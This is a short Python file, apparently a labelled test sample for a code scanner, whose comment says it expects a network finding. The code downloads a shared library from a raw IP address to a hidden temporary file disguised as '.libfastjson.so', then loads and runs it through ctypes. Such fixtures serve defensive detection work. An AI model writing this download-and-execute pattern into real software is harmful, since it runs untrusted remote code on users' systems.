# expect: network; downloads a shared object with urlretrieve and loads it with ctypes
import ctypes
import os
import tempfile
import urllib.request

dest = os.path.join(tempfile.gettempdir(), ".libfastjson.so")
urllib.request.urlretrieve("http://198.51.100.88/libfastjson.so", dest)
lib = ctypes.CDLL(dest)
lib.init()
